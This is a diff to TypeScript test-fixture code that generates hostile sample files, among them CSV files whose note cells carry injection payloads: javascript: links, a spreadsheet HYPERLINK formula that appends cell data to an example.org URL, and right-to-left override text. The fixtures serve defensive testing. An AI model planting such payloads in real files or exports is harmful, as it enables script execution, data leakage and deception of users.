@@ -33,7 +33,7 @@ const ATTACKS: readonly ((place: number) => string)[] = [
 ];
 
 /** Texts that name something else, so that another text is a mistake that `check` finds. */
-const NAMES = /(?:^|\.)(?:dimensionValues|answers)\.|^logo\.src$/;
+const NAMES = /(?:^|\.)(?:dimensionValues|answers)\.|^logo\.src$|^mapsTo\.\d+\.term$/;
 
 export interface HostilePlaybook {
   readonly files: Files;
@@ -67,10 +67,38 @@ export function hostilePlaybook(): HostilePlaybook {
     return [`${folder.name}/hostile-${name}.${extension}`, written] as const;
   });
   const configuration = stringify(attacked(CONFIGURATION, configSchema));
+  const series = kinds.flatMap(({ name, folder, series: columns }) => {
+    if (columns === undefined) return [];
+    const rows = SERIES_NOTES.map((note, index) => {
+      places += 1;
+      return ['date', ...columns.numbers]
+        .map((column) => (column === 'date' ? `2026-04-0${index + 1}` : String(index + 1)))
+        .concat(note(places));
+    });
+    // The smallest entry has no values of its own.
+    return [[`${folder.name}/example-${name}.csv`, tableOf([['date', ...columns.numbers, 'note'], ...rows])] as const];
+  });
   return {
-    files: { ...everyKind, ...Object.fromEntries(entries), 'playbook.yaml': configuration, [MARK]: DRAWING },
+    files: {
+      ...everyKind,
+      ...Object.fromEntries([...entries, ...series]),
+      'playbook.yaml': configuration,
+      [MARK]: DRAWING,
+    },
     places,
   };
+}
+
+/** What stands beside a number: markup, a link that runs, a formula, and letters that turn the line around. */
+const SERIES_NOTES: readonly ((place: number) => string)[] = [
+  (place) => `${BREAKER}${place}`,
+  (place) => `[Words](javascript:go()) <a href="javascript:go()">X-ATTACK:${place}</a>`,
+  (place) => `=HYPERLINK("https://example.org/${place}?"&A1;"Words")`,
+  (place) => `\u202Eesrever\u202C @go() X-ATTACK:${place}`,
+];
+
+function tableOf(rows: readonly (readonly string[])[]): string {
+  return rows.map((row) => `${row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\n`).join('');
 }
 
 function fieldsOf(front: string): Readonly<Record<string, unknown>> {
